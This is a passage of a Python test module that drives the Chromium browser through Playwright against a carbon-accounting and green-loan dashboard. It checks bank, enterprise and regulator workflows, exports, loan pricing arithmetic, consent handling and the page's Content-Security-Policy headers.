"""The web dashboard end to end: a real `dianta serve`, Debian's Chromium driven by Playwright, one test per
role's main task, values on the page checked against the API (issue: web dashboard).

Skipped only when /usr/bin/chromium is missing and DIANTA_REQUIRE_BROWSER is not set. Screenshots of the main
pages go to $DIANTA_SCREENSHOTS (default test-artifacts/screenshots/ at the repository root).
"""

from __future__ import annotations

import csv
import io
import os
import re
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from province import A, B, E
from service import PASSWORD, Service, start_service, stop_service

CHROMIUM = Path("/usr/bin/chromium")
if not CHROMIUM.exists():
    if os.environ.get("DIANTA_REQUIRE_BROWSER"):
        pytest.fail(f"DIANTA_REQUIRE_BROWSER is set but {CHROMIUM} is missing (apt-get install chromium)",
                    pytrace=False)
    pytest.skip(f"{CHROMIUM} is missing: the dashboard tests need Debian's chromium", allow_module_level=True)

from playwright.sync_api import Browser, Page, expect, sync_playwright  # noqa: E402 - after the skip

YEAR = 2023
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", "--no-first-run"]
SHOTS = Path(os.environ.get("DIANTA_SCREENSHOTS") or Path(__file__).resolve().parents[1] / "test-artifacts"
             / "screenshots")


@pytest.fixture(scope="module")
def service(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    """One server for the module (SQLite: the browser, not the backend, is under test here)."""
    s = start_service("sqlite", tmp_path_factory.mktemp("dashboard"), request)
    yield s
    stop_service(s)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield b
        b.close()



def wait_until(page: Page, expression: str, timeout_s: float = 30.0) -> None:
    """Wait until the JavaScript ``expression`` is true in ``page``. Polled from here with ``evaluate`` (run by the
    browser's debugging protocol): ``wait_for_function`` re-evaluates its string with eval in the page, which the
    dashboard's Content-Security-Policy (no unsafe-eval) refuses whenever the first check is false."""
    deadline = time.monotonic() + timeout_s
    while not page.evaluate(f"() => Boolean({expression})"):
        assert time.monotonic() < deadline, f"still false after {timeout_s} s: {expression}"
        page.wait_for_timeout(100)

class Session:
    """A browser tab with the problems it met: page errors, console errors, requests carrying a token."""

    def __init__(self, browser: Browser, service: Service, lang: str) -> None:
        self.service = service
        self.context = browser.new_context(accept_downloads=True, viewport={"width": 1400, "height": 1000},
                                           locale="en-GB")
        if lang:
            self.context.add_init_script(f"localStorage.getItem('dianta.lang') || "
                                         f"localStorage.setItem('dianta.lang', '{lang}')")
        self.page: Page = self.context.new_page()
        self.page.set_default_timeout(15_000)
        self.errors: list[str] = []
        self.urls: list[str] = []
        self.expected_failures: list[tuple[str, int]] = []  # (path, status) a test provokes on purpose
        self.page.on("pageerror", lambda exc: self.errors.append(f"page error: {exc}"))
        self.page.on("console", self._console)
        self.page.on("request", lambda r: self.urls.append(r.url))

    def _console(self, msg) -> None:  # noqa: ANN001 - playwright ConsoleMessage
        if msg.type != "error":
            return
        url = (msg.location or {}).get("url", "")
        if any(url.endswith(path) and f"status of {status}" in msg.text for path, status in self.expected_failures):
            return
        self.errors.append(f"console error: {msg.text} ({url})")

    def login(self, who: str, password: str = PASSWORD) -> None:
        self.page.goto(self.service.url + "/")
        self.page.fill("#username", who)
        self.page.fill("#password", password)
        self.page.click("#login-submit")

    def ready(self, name: str) -> Page:
        """Wait until page `name` has rendered."""
        self.page.wait_for_selector(f'#main .page[data-page="{name}"][data-ready="true"]')
        return self.page

    def go(self, name: str) -> Page:
        self.page.click(f'#nav a[data-page="{name}"]')
        return self.ready(name)

    def charts_drawn(self) -> None:
        wait_until(self.page, "[...document.querySelectorAll('.chart')].every(c => c.dataset.ready === 'true'"
                              " && c.querySelector('canvas') !== null)")

    def shot(self, name: str) -> None:
        SHOTS.mkdir(parents=True, exist_ok=True)
        self.page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)

    def close(self) -> None:
        token = self.page.evaluate("sessionStorage.getItem('dianta.token')")
        self.context.close()
        assert not self.errors, "\n".join(self.errors)
        tokens = [t for t in [token, *self.service.tokens.values()] if t]
        assert not [u for u in self.urls if any(t in u for t in tokens)], "a token went into a URL"


@pytest.fixture
def session(browser: Browser, service: Service) -> Iterator[Session]:
    s = Session(browser, service, "en")
    yield s
    s.close()


def _api(service: Service, who: str, path: str, **params: object) -> object:
    with service.client(who) as c:
        r = c.get("/api/v1" + path, params=params)
        r.raise_for_status()
        return r.json()


def _tco2(value: float) -> str:
    return f"{value:,.2f} tCO₂"


def _cny(value: float) -> str:
    return f"{value:,.2f} CNY"


def _yi(value: float) -> str:
    """CNY as the dashboard shows programme amounts: 亿元 (100 million CNY), two decimals."""
    return f"{value / 1e8:,.2f} 100 million CNY"


def _wan(value: float) -> str:
    return f"{value / 1e4:,.2f} 10k CNY"


def _card(page: Page, field: str):  # noqa: ANN202 - a playwright Locator
    """The value of the headline card `field`."""
    return page.locator(f'.card[data-field="{field}"] .card-value')


def _csv(path: str) -> tuple[bytes, list[list[str]]]:
    raw = Path(path).read_bytes()
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_login_language_and_headers(browser: Browser, service: Service) -> None:
    s = Session(browser, service, "")
    page = s.page
    page.goto(service.url + "/")
    assert page.url == service.url + "/app/"
    # Chinese by default, every string from the catalogue
    expect(page.locator("#login-form h1")).to_have_text("登录")
    expect(page.locator("label[for=username]")).to_have_text("用户名")
    page.click("#lang")
    expect(page.locator("#login-form h1")).to_have_text("Log in")
    page.reload()  # the choice is remembered
    expect(page.locator("label[for=password]")).to_have_text("Password")
    assert page.evaluate("localStorage.getItem('dianta.lang')") == "en"
    # the catalogue has the same keys in both languages
    missing = page.evaluate("""async () => { const {CATALOGUE} = await import('./i18n.js');
        const zh = Object.keys(CATALOGUE.zh), en = Object.keys(CATALOGUE.en);
        return zh.filter(k => !en.includes(k)).concat(en.filter(k => !zh.includes(k))); }""")
    assert missing == []
    s.expected_failures.append(("/api/v1/auth/token", 401))
    s.login("bank_a", "wrong password!")
    expect(page.locator("#login-status")).to_have_text("Wrong user name or password.")
    assert page.evaluate("sessionStorage.getItem('dianta.token')") is None
    page.click("#lang")
    expect(page.locator("#login-form h1")).to_have_text("登录")
    s.shot("login")
    s.close()
    # the dashboard's own CSP: no inline code; blob images for the label
    r = httpx.get(service.url + "/app/")
    assert r.status_code == 200 and "text/html" in r.headers["content-type"]
    csp = r.headers["content-security-policy"]
    assert "default-src 'self'" in csp and "img-src 'self' blob: data:" in csp and "unsafe-inline" not in csp
    assert "frame-ancestors 'none'" in csp and r.headers["x-frame-options"] == "DENY"
    assert httpx.get(service.url + "/app/app.js").headers["content-type"].startswith("text/javascript")
    assert httpx.get(service.url + "/api/v1/openapi.json").headers["content-security-policy"] == \
        "default-src 'self'; frame-ancestors 'none'"
    assert not [p for p in httpx.get(service.url + "/api/v1/openapi.json").json()["paths"] if not p.startswith("/api")]


def test_bank_finds_an_account(session: Session, service: Service) -> None:
    page = session.page
    account = _api(service, "bank_a", f"/accounts/{A}/{YEAR}")
    session.login("bank_a")
    session.ready("search")
    expect(page.locator("#who")).to_contain_text("bank_a · Bank · BANK-A")
    assert page.input_value("#year") == str(YEAR)  # the latest year with accounts, found by the dashboard
    # bank A sees only A, which granted it consent; B is nowhere
    expect(page.locator("#search-count")).to_have_text("Accounts found: 1")
    page.fill("#search-q", "测试企业1")
    page.click("#search-form button[type=submit]")
    expect(page.locator(".results .msg")).to_have_text(
        "No account matches among the enterprises that granted your bank consent.")
    page.fill("#search-q", account["name"])
    page.click("#search-form button[type=submit]")
    expect(page.locator("#search-count")).to_have_text("Accounts found: 1")
    session.shot("bank-search")
    page.click(f"table.data a:has-text('{account['name']}')")
    session.ready("account")
    expect(page.locator("#account-name")).to_have_text(account["name"])
    expect(page.locator("#account-code")).to_have_text(A)
    expect(page.locator("#account-grade")).to_have_text(f"Grade {account['grade']} · light green")
    expect(page.locator("#account-score")).to_have_text(f"{account['score']:.1f}")
    expect(page.locator('.card[data-field="emissions_t"] .card-value')).to_have_text(_tco2(account["emissions_t"]))
    expect(page.locator('.card[data-field="green_share"] .card-value')).to_have_text(
        f"{account['green_share'] * 100:.1f} %")
    expect(page.locator('.card[data-field="kwh_total"] .card-value')).to_have_text(
        f"{account['kwh_total'] / 1000:,.1f} MWh")
    # issue 15: the hourly market-based figure beside the annual one (A has monthly data only: no hourly figure),
    # the default profile's method and boundary in words, the instruments traced to plants in or out of it
    expect(_card(page, "emissions_market_t")).to_have_text(_tco2(account["emissions_market_t"]))
    extra = lambda f: page.locator(f'.card[data-field="{f}"] .card-extra')  # noqa: E731
    expect(extra("emissions_market_t")).to_have_text("Annual method · used by indicator 1")
    expect(_card(page, "emissions_market_hourly_t")).to_have_text("–")
    expect(extra("emissions_market_hourly_t")).to_have_text("not computed: no complete 15-minute data")
    expect(_card(page, "kwh_outside_boundary")).to_have_text("0 kWh")  # national: every instrument counts
    expect(page.locator("#trace-method")).to_have_text("Annual: indicator 1 is the annual market-based figure")
    expect(page.locator("#trace-boundary")).to_have_text("National: every plant's instruments count")
    traced = page.locator("#instruments tbody tr")
    expect(traced).to_have_count(len(account["instruments"]))
    for n, i in enumerate(account["instruments"]):
        cells = traced.nth(n).locator("td")
        expect(cells.nth(1)).to_have_text(i["source_id"] if i["last_id"] in (None, i["source_id"])
                                          else f"{i['source_id']} – {i['last_id']}")
        expect(cells.nth(8)).to_have_text("counted")
    if not account["instruments"]:
        expect(page.locator("#instruments .msg")).to_have_text(
            "No green trade or certificate of the year is traced to a plant.")
    alert = account["alerts"][0]  # the bank's account page is its credit view (issue 17): the alerts as a table
    row = page.locator("#credit-alerts tbody tr", has_text=alert["month"])
    expect(row.locator("td").nth(1)).to_have_text("Sharp drop (below 50 % of the same month last year)")
    # the trend chart holds the record's monthly kWh, this year and last
    session.charts_drawn()
    series = page.evaluate("""() => { const box = document.querySelectorAll('.chart')[0];
        return echarts.getInstanceByDom(box).getOption().series.map(s => s.data); }""")
    assert series == [account["electricity"]["monthly_kwh_prev_year"], account["electricity"]["monthly_kwh"]]
    # a tooltip under the pointer, drawn on the canvas: no inline style for the CSP to refuse
    box = page.locator(".chart").first.bounding_box()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.wait_for_timeout(200)
    # the label image, fetched with the token and shown from a Blob URL
    wait_until(page, "document.querySelector('#label-img')?.naturalWidth > 0")
    assert page.get_attribute("#label-img", "src").startswith("blob:")
    # the report needs a consent of scope reports or full: bank A holds summary only
    session.expected_failures.append((f"/api/v1/accounts/{A}/{YEAR}/report?format=pdf&lang=en", 403))
    page.click("#credit-report button[data-format=pdf]")
    expect(page.locator("#report-progress .msg")).to_have_text(
        "The firm has not granted your bank its reports: no live consent of scope full/reports from enterprise "
        f"{A} to bank BANK-A")
    session.shot("bank-account")
    # B's account is refused with a message, never a broken page
    session.expected_failures.append((f"/api/v1/credit/{B}", 403))
    page.evaluate(f"location.hash = '#/account/{B}/{YEAR}'")
    session.ready("account")
    expect(page.locator("#main .msg")).to_contain_text(f"no live consent of scope full/reports/summary from "
                                                      f"enterprise {B} to bank BANK-A")


def test_bank_portfolio_and_exports(session: Session, service: Service) -> None:
    page = session.page
    records = _api(service, "bank_a", "/accounts", year=YEAR)["items"]
    assert [r["credit_code"] for r in records] == [A]
    portfolio = _api(service, "bank_a", "/portfolio", year=YEAR)
    session.login("bank_a")
    session.ready("search")
    session.go("portfolio")
    expect(page.locator('.card[data-field="enterprises"] .card-value')).to_have_text("1")
    expect(page.locator('.card[data-field="emissions_t"] .card-value')).to_have_text(
        _tco2(sum(r["emissions_t"] for r in records)))
    expect(page.locator('.card[data-field="intensity"] .card-value')).to_have_text(
        f"{portfolio['totals']['intensity']:.3f} tCO₂/10k CNY")
    rows = page.locator(".panel:has(h2:has-text('Portfolio detail')) table.data tbody tr")
    expect(rows).to_have_count(1)
    expect(rows.first).to_contain_text(A)
    session.charts_drawn()
    assert page.locator(".chart canvas").count() >= 3
    session.shot("bank-portfolio")
    # CSV made in the browser: a UTF-8 byte-order mark and the table's header
    with page.expect_download() as download:
        page.click(".panel:has(h2:has-text('Portfolio detail')) button:has-text('Export CSV')")
    assert download.value.suggested_filename == f"portfolio-{YEAR}.csv"
    raw, table = _csv(download.value.path())
    assert raw.startswith(b"\xef\xbb\xbf")
    assert table[0] == ["Enterprise", "Credit code", "Industry section", "Region code", "Grade", "Score",
                        "Emissions (tCO₂)", "Carbon intensity (tCO₂/10k CNY)", "Green share (%)",
                        "Total electricity (kWh)", "Alerts", "Reported outstanding (CNY)",
                        "Carbon cost at 100 CNY/t (CNY)", "Carbon cost share of value (%)", "Transition risk"]
    assert table[1][:2] == [records[0]["name"], A] and float(table[1][6]) == records[0]["emissions_t"]
    assert float(table[1][12]) == pytest.approx(51_206.4) and float(table[1][13]) == pytest.approx(0.5121)
    assert table[1][14] == "below threshold"
    # the API's export, fetched with the bearer token and saved from a Blob
    with page.expect_download() as download:
        page.click("text=Export accounts (CSV)")
    assert download.value.suggested_filename == f"accounts-{YEAR}.csv"
    with service.client("bank_a") as c:
        expected = c.get("/api/v1/exports/accounts", params={"year": YEAR, "format": "csv"}).content
    assert Path(download.value.path()).read_bytes() == expected
    # transition risk: A's 512.064 t × 100 CNY/t = 51,206.40 CNY, 0.51 % of its 10,000,000 CNY value added
    risk = portfolio["enterprises"][0]["transition_risk"]["carbon_cost"]
    assert risk["cea_recent"]["cost_cny"] == pytest.approx(51_206.4) and not risk["cea_recent"]["flagged"]
    summary = portfolio["transition_risk"]["by_scenario"]
    expect(page.locator("#risk-scenario")).to_have_value("cea_recent")
    row = page.locator("#portfolio-detail tbody tr")
    expect(row.locator("td").nth(12)).to_have_text("51,206.40")
    expect(row.locator("td").nth(13)).to_have_text("0.51")
    expect(row.locator("td").nth(14)).to_have_text("below threshold")
    expect(page.locator("#portfolio-detail tr.flagged")).to_have_count(0)
    expect(_card(page, "flagged")).to_have_text(str(summary["cea_recent"]["flagged_borrowers"]))
    expect(page.locator('.card[data-field="flagged"] .card-extra')).to_have_text(
        "China national ETS (CEA) recent price · 100 CNY/t; threshold 5.0 %")
    page.select_option("#risk-scenario", "stress")  # 500 CNY/t: 256,032.00 CNY, 2.56 %, still below 5 %
    expect(row.locator("td").nth(12)).to_have_text("256,032.00")
    expect(row.locator("td").nth(13)).to_have_text("2.56")
    expect(page.locator("#portfolio-detail th").nth(12)).to_have_text("Carbon cost at 500 CNY/t (CNY)")
    expect(page.locator("#risk-scenarios tbody tr")).to_have_count(3)


def test_enterprise_grants_and_revokes_consent(session: Session, service: Service) -> None:
    page = session.page
    account = _api(service, "ent_a", f"/accounts/{A}/{YEAR}")
    session.login("ent_a")
    session.ready("my-account")
    expect(page.locator("#account-grade")).to_have_text(f"Grade {account['grade']} · light green")
    expect(page.locator('.card[data-field="emissions_t"] .card-value')).to_have_text(_tco2(account["emissions_t"]))
    session.charts_drawn()
    wait_until(page, "document.querySelector('#label-img')?.naturalWidth > 0")
    session.shot("enterprise-account")
    # its own report, as a PDF
    with page.expect_download() as download:
        page.click("text=PDF report (English)")
    assert download.value.suggested_filename == f"carbon-account-{A}-{YEAR}-en.pdf"
    assert Path(download.value.path()).read_bytes().startswith(b"%PDF")
    # what to improve: weakest aspect first, and the server's advice
    session.go("improve")
    aspects = page.locator("#aspects > li")
    expect(aspects).to_have_count(3)
    assert [aspects.nth(i).get_attribute("data-aspect") for i in range(3)] == ["green", "intensity", "reduction"]
    expect(aspects.first).to_have_text("Green-power progress · score 60.0")
    advice = _api(service, "ent_a", f"/accounts/{A}/{YEAR}/advice", lang="en")["advice"]
    expect(page.locator("#advice li")).to_have_text(advice)
    expect(page.locator("#improve-current")).to_have_text("Current score 80.0, Grade 2 · light green. "
                                                          "Grade 1 · dark green needs a score of 85.")
    # the levers of GET …/what-if (tests/test_finance_whatif.py): 270,000 kWh more green power reach 50 % and
    # score 85; or intensity 23.7 % lower (121.43 t less at the same value added) reaches 90
    what_if = _api(service, "ent_a", f"/accounts/{A}/{YEAR}/what-if")
    assert (what_if["next_grade"], what_if["next_grade_score"]) == (1, 85)
    expect(_card(page, "next_grade")).to_have_text("Grade 1 · dark green")
    expect(page.locator('.card[data-field="next_grade"] .card-extra')).to_have_text("needs a score of 85")
    expect(_card(page, "extra_green")).to_have_text("270.0 MWh")
    expect(page.locator('.card[data-field="extra_green"] .card-extra')).to_have_text(
        "green share up to 50.0 % · score 85, Grade 1 · dark green")
    expect(_card(page, "intensity_cut")).to_have_text("23.7 %")
    expect(page.locator('.card[data-field="intensity_cut"] .card-extra')).to_have_text(
        "down to 0.391 tCO₂/10k CNY · 121.43 tCO₂ less · score 90, Grade 1 · dark green")
    # a bank without a pricing policy: a plain message
    session.expected_failures.append((f"/api/v1/accounts/{A}/{YEAR}/what-if?bank_id=BANK-B&on=2024-03-01", 404))
    page.select_option("#whatif-bank", "BANK-B")
    page.fill("#whatif-on", "2024-03-01")
    page.click("#whatif-form button[type=submit]")
    expect(page.locator("#whatif-result .msg")).to_have_text("乙银行 (BANK-B) has no pricing policy in effect on "
                                                             "2024-03-01.")
    session.shot("enterprise-improve")
    session.go("findings")
    assert _api(service, "ent_a", f"/enterprises/{A}/findings") == []
    expect(page.locator("#main .msg")).to_have_text("No data-quality findings: your data passed every check.")
    # consents: grant BANK-B, then revoke it
    session.go("consents")
    rows = page.locator("#consent-list tbody tr")
    expect(rows).to_have_count(1)
    expect(rows.first).to_contain_text("BANK-A")
    page.select_option("#consent-bank", "BANK-B")
    page.select_option("#consent-scope", "reports")
    page.fill("#consent-expires", "2099-12-31")
    page.click("#consent-form button[type=submit]")
    expect(rows).to_have_count(2)
    new = page.locator("#consent-list tbody tr:has-text('BANK-B')")
    expect(new).to_contain_text("live")
    expect(new).to_contain_text("2099-12-31")
    granted = [c for c in _api(service, "ent_a", "/consents") if c["bank_org_id"] == "BANK-B"]
    assert [(c["scope"], c["expires_on"], c["live"]) for c in granted] == [("reports", "2099-12-31", True)]
    assert [r["credit_code"] for r in _api(service, "bank_b", "/accounts", year=YEAR)["items"]] == [A]
    session.shot("enterprise-consents")
    new.locator("button:has-text('Revoke')").click()
    new.locator("button:has-text('Confirm revoke')").click()
    expect(page.locator("#consent-list tbody tr:has-text('BANK-B')")).to_contain_text("revoked")
    expect(page.locator("#consent-list tbody tr:has-text('BANK-A')")).to_contain_text("live")
    revoked = [c for c in _api(service, "ent_a", "/consents") if c["bank_org_id"] == "BANK-B"]
    assert revoked[0]["revoked_at"] is not None and not revoked[0]["live"]
    assert _api(service, "bank_b", "/accounts", year=YEAR)["items"] == []


def test_regulator_statistics_sorting_and_language(session: Session, service: Service) -> None:
    page = session.page
    stats = _api(service, "regulator", "/statistics", year=YEAR)
    session.login("regulator")
    session.ready("statistics")
    expect(page.locator('.card[data-field="accounts"] .card-value')).to_have_text(str(stats["accounts"]))
    assert stats["accounts"] == 8
    expect(page.locator('.card[data-field="emissions_t"] .card-value')).to_have_text(
        _tco2(sum(g["emissions_t"] for g in stats["by_grade"])))
    grade_table = page.locator(".panel:has(h2:text-is('Accounts by grade')) table.data")
    cells = grade_table.locator("tbody tr td:nth-child(2)")
    expect(cells).to_have_text([str(g["accounts"]) for g in stats["by_grade"]])  # grades 2, 3, 4, 5
    # sorting by a header: ascending, then descending
    header = grade_table.locator("th", has_text="Accounts")
    header.click()
    expect(header).to_have_attribute("aria-sort", "ascending")
    ascending = sorted(g["accounts"] for g in stats["by_grade"])
    expect(cells).to_have_text([str(n) for n in ascending])
    header.click()
    expect(cells).to_have_text([str(n) for n in reversed(ascending)])
    expect(page.locator("#main")).to_contain_text("No loans recorded yet.")
    session.charts_drawn()
    session.shot("regulator-statistics")
    # the toggle switches every label to Chinese
    page.click("#lang")
    session.ready("statistics")
    expect(page.locator('#nav a[data-page="statistics"]')).to_have_text("项目统计")
    expect(page.locator('.card[data-field="accounts"] .card-label')).to_have_text("账户数")
    expect(page.locator(".panel h2").first).to_have_text("项目统计")
    expect(page.locator("#main")).to_contain_text("制造业")
    session.charts_drawn()
    session.shot("regulator-statistics-zh")
    with page.expect_download() as download:
        page.locator(".panel:has(h2:text-is('按等级的账户')) button:has-text('导出 CSV')").click()
    raw, table = _csv(download.value.path())
    assert raw.startswith(b"\xef\xbb\xbf") and table[0][:3] == ["等级", "账户数", "总用电量 (kWh)"]
    assert [row[:2] for row in table[1:]] == [[g["group"], str(g["accounts"])] for g in stats["by_grade"]]


# green finance (METHODOLOGY.md §8): these tests run after the statistics test (which sees no loans yet) and before
# the operator's recalculation (which changes A's value added); the numbers are worked in
# tests/test_finance_pricing.py and tests/test_finance_whatif.py
LOAN = {"loan_id": "L-WEB-1", "credit_code": A, "principal_cny": 10_000_000, "outstanding_cny": 10_000_000,
        "as_of": "2024-01-01", "drawn_on": "2024-01-01", "maturity_on": "2026-12-31", "base_rate_pct": 3.45}
QUOTE = {"credit_code": A, "base_rate_pct": 3.45, "on": "2024-03-01"}


def test_bank_prices_a_loan_with_its_policy(session: Session, service: Service) -> None:
    """Bank A saves its policy through the form (cap 165 bp; grade 1 → 60, 2 → 40, 3 → 20; 1 bp a point above
    70), quotes A (grade 2, score 80: 40 + 10 = 50 bp; 3.45 % → 2.95 %), prices its loan from 2024-01-01 and
    sees the interest saved in January: 10,000,000 × 0.0050 × 31 / 360 = 4,305.56 CNY."""
    page = session.page
    with service.client("bank_a") as c:
        r = c.post("/api/v1/loans", json=LOAN)
        assert r.status_code == 201, r.text
    session.login("bank_a")
    session.ready("search")
    session.go("pricing")
    expect(page.locator("#policy-list .msg")).to_have_text(
        "Your bank has no pricing policy yet: save its first version below.")
    expect(page.locator("#policy-current")).to_be_checked()  # the default: a current account is required
    page.fill("#policy-name", "Green credit 2024")
    page.fill("#policy-from", "2024-01-01")
    page.fill("#policy-cap", "165")
    for grade, bp in (("1", "60"), ("2", "40"), ("3", "20")):
        page.fill(f"#policy-grade-{grade}", bp)
    page.fill("#policy-base-score", "70")
    page.fill("#policy-bp-per-point", "1")
    page.click("#policy-form button[type=submit]")
    expect(page.locator("#policy-status .msg")).to_have_text("Pricing policy version 1 “Green credit 2024” saved.")
    rows = page.locator("#policy-list tbody tr")
    expect(rows).to_have_count(1)
    expect(rows.first.locator("td")).to_have_text(["1", "Green credit 2024", "2024-01-01", "in effect today", "165",
                                                   "60", "40", "20", "–", "–", "1 bp a point above 70", "–", "yes"])
    policies = _api(service, "bank_a", "/pricing-policies")
    assert [(p["version"], p["cap_bp"], p["grade_discount_bp"], p["score_link"], p["eligibility"]) for p in policies] \
        == [(1, 165, {"1": 60, "2": 40, "3": 20}, {"base_score": 70, "bp_per_point": 1},
             {"no_discount_with_alerts": [], "require_current_account": True})]
    # a quote, and why
    page.fill("#quote-code", A)
    page.fill("#quote-base", "3.45")
    page.fill("#quote-on", "2024-03-01")
    page.click("#quote-form button[type=submit]")
    expect(_card(page, "discount")).to_have_text("50 bp")
    expect(_card(page, "base_rate")).to_have_text("3.45 %")
    expect(_card(page, "final_rate")).to_have_text("2.95 %")
    expect(_card(page, "eligible")).to_have_text("yes")
    expect(page.locator('.card[data-field="discount"] .card-extra')).to_have_text("grade 40 bp + score 10 bp")
    with service.client("bank_a") as c:
        quote = c.post("/api/v1/quotes", json=QUOTE).json()
    assert quote["reasons"][-1] == "3.45 % − 50 bp = 2.95 %"
    expect(page.locator("#quote-reasons li")).to_have_text(quote["reasons"])
    session.shot("bank-pricing")

    # the loan, priced from its draw-down day
    session.go("loans")
    loan = page.locator("#loan-list tbody tr", has_text=LOAN["loan_id"])
    expect(loan.locator("td").nth(3)).to_have_text("10,000,000.00")
    page.fill("#pricing-on", "2024-01-01")
    loan.locator("button[data-action=price]").click()
    expect(page.locator("#loan-status .msg")).to_have_text(
        "Loan L-WEB-1 priced: 50 bp off from 2024-01-01, final rate 2.95 %.")
    history = page.locator("#loan-history tbody tr")
    expect(history).to_have_count(1)
    expect(history.first.locator("td").nth(1)).to_have_text("2024-01-01")
    expect(history.first.locator("td").nth(7)).to_have_text("50")
    assert [h["discount_bp"] for h in _api(service, "bank_a", f"/loans/{LOAN['loan_id']}/pricing")] == [50]
    # the interest saved through 31 January 2024
    page.fill("#interest-through", "2024-01-31")
    page.click("#interest-form button[type=submit]")
    jan = page.locator("#interest tbody tr", has_text=LOAN["loan_id"])
    expect(jan.locator("td")).to_have_text([LOAN["loan_id"], A, "2024-01", "31", "10,000,000.00", "4,305.56"])
    saved = _api(service, "bank_a", "/interest-saved", through="2024-01-31")
    assert sum(r["interest_saved_cny"] for r in saved if r["loan_id"] == LOAN["loan_id"]) == pytest.approx(4305.5556)
    expect(_card(page, "interest_saved")).to_have_text(_cny(sum(r["interest_saved_cny"] for r in saved)))
    session.charts_drawn()
    months = page.evaluate("""() => { const box = document.querySelector('#interest .chart');
        const option = echarts.getInstanceByDom(box).getOption();
        return [option.xAxis[0].data, option.series[0].data.map(d => d.value)]; }""")
    assert months == [["2024-01"], [round(sum(r["interest_saved_cny"] for r in saved), 2)]]
    session.shot("bank-loans")


def test_bank_financed_emissions_and_alerts(session: Session, service: Service) -> None:
    """Bank A's loan drawn on 2024-01-01 has nothing outstanding on 31 December 2023 (left out); on 31 December
    2024 it is not covered: the province gives A no total equity + debt (nor a 2024 account). A's sharp drop of
    June 2023 is in the alerts and in the digest of the day it was first seen (after
    test_bank_prices_a_loan_with_its_policy, which records the loan)."""
    page = session.page
    session.login("bank_a")
    session.ready("search")
    session.go("financed-emissions")
    left = page.locator("#fe-left-out tbody tr", has_text=LOAN["loan_id"])
    expect(left).to_contain_text("nothing outstanding on 2023-12-31 (not yet drawn, matured or repaid)")
    expect(_card(page, "data_quality")).to_have_text("2")
    # the next year, chosen in the top bar
    page.select_option("#year", str(YEAR + 1))  # the years on record and the later ones (no accounts yet)
    result = _api(service, "bank_a", "/financed-emissions", year=YEAR + 1)
    api_row = next(r for r in result["loans"] if r["loan_id"] == LOAN["loan_id"])
    assert api_row["covered"] is False and "no_equity_plus_debt" in [x["code"] for x in api_row["not_covered"]]
    row = page.locator("#fe-loans tbody tr", has_text=LOAN["loan_id"])
    expect(row).to_contain_text("no positive total_equity_plus_debt_cny of the borrower for 2024 in economics")
    expect(row.locator("td").nth(11)).to_have_text("no")
    expect(row).to_have_class("not-covered")
    assert result["data_quality"]["score"] == 2
    expect(_card(page, "data_quality")).to_have_text("2")
    expect(_card(page, "financed_emissions")).to_have_text(_tco2(result["totals"]["financed_emissions_t"]))
    expect(_card(page, "covered_outstanding")).to_have_text(_cny(result["totals"]["covered_outstanding_cny"]))
    expect(_card(page, "coverage")).to_have_text(f"{result['totals']['coverage'] * 100:.1f} %")
    expect(page.locator("#fe-data-quality")).to_have_text(result["data_quality"]["en"])
    with page.expect_download() as download:
        page.click("text=Download Excel")
    assert download.value.suggested_filename == f"financed-emissions-BANK-A-{YEAR + 1}.xlsx"
    assert Path(download.value.path()).read_bytes().startswith(b"PK")
    session.shot("bank-financed-emissions")

    events = _api(service, "bank_a", "/alerts")
    assert (events[0]["credit_code"], events[0]["code"], events[0]["month"]) == (A, "sharp_drop", "2023-06")
    session.go("alerts")
    rows = page.locator("#alert-list tbody tr")
    expect(rows).to_have_count(len(events))
    expect(rows.first.locator("td")).to_have_text([events[0]["seen_on"], re.compile(r"\d"), events[0]["name"], A,
                                                   "2023-06", "Sharp drop (below 50 % of the same month last year)"])
    page.fill("#digest-date", events[0]["seen_on"])
    with page.expect_download() as download:
        page.click("#digest-download")
    assert download.value.suggested_filename == f"alerts-{events[0]['seen_on']}.csv"
    with service.client("bank_a") as c:
        digest = c.get("/api/v1/alerts/digest", params={"date": events[0]["seen_on"], "format": "csv"}).content
    assert Path(download.value.path()).read_bytes() == digest
    assert [r[:4] for r in _csv(download.value.path())[1][1:]] == [[A, events[0]["name"], str(YEAR), "sharp_drop"]]
    session.shot("bank-alerts")


def test_bank_portfolio_flags_transition_risk(session: Session, service: Service) -> None:
    """C (731.52 t, value added 4,000,000 CNY) costs 365,760 CNY at the stress price of 500 CNY/t: 9.14 %, above
    the 5 % threshold: flagged in bank B's portfolio once C consents to bank B (granted by the operator)."""
    page = session.page
    c_code = next(r["credit_code"] for r in _api(service, "operator", "/accounts", year=YEAR)["items"]
                  if r["name"] == "测试企业2")
    with service.client("operator") as c:
        r = c.post("/api/v1/consents", json={"credit_code": c_code, "bank_org_id": "BANK-B", "scope": "summary",
                                             "expires_on": "2099-12-31"})
        assert r.status_code == 201, r.text
    portfolio = _api(service, "bank_b", "/portfolio", year=YEAR)
    assert [e["transition_risk"]["flagged"] for e in portfolio["enterprises"]] == [["stress"]]
    session.login("bank_b")
    session.ready("search")
    session.go("portfolio")
    expect(_card(page, "flagged")).to_have_text("0")
    expect(page.locator("#portfolio-detail tr.flagged")).to_have_count(0)
    page.select_option("#risk-scenario", "stress")
    expect(_card(page, "flagged")).to_have_text("1")
    flagged = page.locator("#portfolio-detail tr.flagged")
    expect(flagged).to_have_count(1)
    expect(flagged.locator("td").nth(12)).to_have_text("365,760.00")
    expect(flagged.locator("td").nth(13)).to_have_text("9.14")
    expect(flagged.locator(".badge")).to_have_text("flagged")
    session.shot("bank-portfolio-risk")


def test_enterprise_sees_the_discount_of_the_next_grade(session: Session, service: Service) -> None:
    """Under bank A's policy (saved in test_bank_prices_a_loan_with_its_policy): A now 40 + 10 = 50 bp; at grade 1
    with score 85: 60 + 15 = 75 bp, +25 bp."""
    page = session.page
    if not _api(service, "bank_a", "/pricing-policies"):  # this test alone
        with service.client("bank_a") as c:
            c.post("/api/v1/pricing-policies", json={"name": "Green credit 2024", "effective_from": "2024-01-01",
